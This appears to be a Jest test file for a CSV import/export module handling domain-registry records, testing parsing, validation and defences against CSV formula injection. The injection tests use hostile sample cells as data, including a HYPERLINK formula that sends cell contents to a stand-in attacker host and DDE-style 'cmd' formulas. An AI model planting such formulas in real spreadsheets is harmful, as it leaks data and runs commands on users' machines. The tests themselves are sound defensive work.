import { parse } from 'csv-parse/sync';
import { InvalidError } from '../common/errors';
import { escapeFormula, MAX_IMPORT_ROWS, readDomainCsv, unescapeFormula, writeDomainCsv, type CsvRecord } from './domain-csv';

const HEADER = 'name,client,registrar,registeredAt,expiresAt,statuses';

describe('readDomainCsv', () => {
  it('reads rows by header, numbering data rows from 1', () => {
    const rows = readDomainCsv(`${HEADER}\nlindapence.com,Linda,Gandi,2019-03-01,2027-03-01,ok\nbücher.de,Buch,,,,\n`);
    expect(rows).toEqual([
      {
        row: 1,
        values: { name: 'lindapence.com', client: 'Linda', registrar: 'Gandi', registeredAt: '2019-03-01', expiresAt: '2027-03-01', statuses: 'ok' },
      },
      { row: 2, values: { name: 'bücher.de', client: 'Buch', registrar: '', registeredAt: '', expiresAt: '', statuses: '' } },
    ]);
  });

  it.each([
    ['a BOM and CRLF line ends', `\uFEFF${HEADER}\r\nlindapence.com,Linda,,,,\r\n`, { name: 'lindapence.com', client: 'Linda' }],
    [
      'quoted cells with commas, quotes and line breaks',
      `${HEADER}\n"lindapence.com","Pence, Linda ""Art""",,,,"ok\nclientHold"\n`,
      { client: 'Pence, Linda "Art"', statuses: 'ok\nclientHold' },
    ],
    ['header case and spaces', ' Name , CLIENT \nlindapence.com,Linda\n', { name: 'lindapence.com', client: 'Linda' }],
    ['columns in any order, some missing', 'client,name\nLinda,lindapence.com\n', { name: 'lindapence.com', client: 'Linda' }],
    ['blank lines and empty rows skipped', `${HEADER}\n\n,,,,,\nlindapence.com,Linda,,,,\n\n`, { name: 'lindapence.com' }],
    ['trailing empty cells', `${HEADER}\nlindapence.com,Linda,,,,,,\n`, { name: 'lindapence.com' }],
  ])('handles %s', (_what, csv, values) => {
    const rows = readDomainCsv(csv);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toEqual({ row: 1, values: expect.objectContaining(values) });
  });

  it('reports a row with more cells than columns on that row', () => {
    const rows = readDomainCsv('name,client\nlindapence.com,Pence,Linda\nbücher.de,Buch\n');
    expect(rows[0].problem).toMatch(/has 3 cells but the header has 2 columns/);
    expect(rows[1].problem).toBeUndefined();
  });

  it.each([
    ['no body', undefined, /Content-Type: text\/csv/],
    ['a JSON body', { name: 'x' }, /Content-Type: text\/csv/],
    ['an empty body', '', /empty/],
    ['only a BOM and spaces', '\uFEFF \n ', /empty/],
    ['no name column', 'client,registrar\nLinda,Gandi\n', /no 'name' column/],
    ['an unknown column', 'name,owner\nlindapence.com,Linda\n', /unknown column\(s\) 'owner'/],
    ['a column twice', 'name,client,Name\nlindapence.com,Linda,x\n', /'name' twice/],
    ['an unclosed quote', `${HEADER}\n"lindapence.com,Linda,,,,\n`, /cannot be read/],
    ['too many rows', `name\n${'lindapence.com\n'.repeat(MAX_IMPORT_ROWS + 1)}`, /at most 10000/],
  ])('refuses %s (400 on body)', (_what, body, message) => {
    let error: unknown;
    try {
      readDomainCsv(body);
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(InvalidError);
    expect((error as InvalidError).errors[0]).toEqual({ field: 'body', message: expect.stringMatching(message) });
  });

  it(`accepts exactly ${MAX_IMPORT_ROWS} rows`, () => {
    expect(readDomainCsv(`name\n${'lindapence.com\n'.repeat(MAX_IMPORT_ROWS)}`)).toHaveLength(MAX_IMPORT_ROWS);
  });
});

describe('writeDomainCsv', () => {
  it('writes the header and quotes what needs quoting, so that it reads back the same', () => {
    const records = [
      {
        name: 'lindapence.com',
        client: 'Pence, Linda "Art"',
        registrar: 'Gandi',
        registeredAt: '2019-03-01T00:00:00.000Z',
        expiresAt: '',
        statuses: 'ok clientHold',
      },
      { name: 'xn--bcher-kva.de', client: 'Bücher GmbH', registrar: '', registeredAt: '', expiresAt: '2027-01-01T00:00:00.000Z', statuses: '' },
    ];
    const csv = writeDomainCsv(records);
    expect(csv.split('\n')[0]).toBe(HEADER);
    expect(csv).toContain('"Pence, Linda ""Art"""');
    expect(readDomainCsv(csv).map((r) => r.values)).toEqual(records);
  });
});

describe('formula cells (CSV injection)', () => {
  const record = (client: string, registrar = ''): CsvRecord => ({ name: 'lindapence.com', client, registrar, registeredAt: '', expiresAt: '', statuses: '' });

  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `'=HYPERLINK("http://evil.example/?"&A1,"click")`],
    ['+1-555-0100', "'+1-555-0100"],
    ['-2+3', "'-2+3"],
    ['@SUM(1+1)*cmd|x', "'@SUM(1+1)*cmd|x"],
    ['\tcmd', "'\tcmd"],
    ['\r=1', "'\r=1"],
    ['＝1+1', "'＝1+1"],
    ['＠SUM(A1)', "'＠SUM(A1)"],
    // A value that starts with quotes and then a formula character: one more quote.
    ["'=x", "''=x"],
    ["''-x", "'''-x"],
    // Everything else untouched, quotes included.
    ["'Gandi", "'Gandi"],
    ["'", "'"],
    ["''", "''"],
    ['Linda Pence Art', 'Linda Pence Art'],
    ['a=b', 'a=b'],
    ['', ''],
  ])('writes %j as the cell %j and reads it back', (value, cell) => {
    expect(escapeFormula(value)).toBe(cell);
    expect(unescapeFormula(cell)).toBe(value);
  });

  it('reads a cell a person wrote with a quote in front of a formula as the formula text', () => {
    expect(unescapeFormula("'=1+1")).toBe('=1+1');
    expect(unescapeFormula("'Gandi")).toBe("'Gandi");
  });

  it('writes no cell of the export that a spreadsheet would run, in any column, and reads every value back', () => {
    const hostile = ['=cmd|"/c calc"!A1', '+SUM(1)', '-1', '@x', '\tx', '\rx', "'=x", "''@x", '＋x', "'Gandi", 'Gandi, Inc.', 'Pence "Art"', 'line\nbreak'];
    const records = hostile.map((v, i) => ({ ...record(v, v), name: `x${i}.com`, statuses: v }));
    const csv = writeDomainCsv(records);
    const cells = parse(csv, { relax_column_count: true });
    for (const cell of cells.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
    expect(readDomainCsv(csv).map((r) => r.values)).toEqual(records);
    // And again: an export of what was imported is the same file.
    expect(writeDomainCsv(readDomainCsv(csv).map((r) => r.values as CsvRecord))).toBe(csv);
  });
});
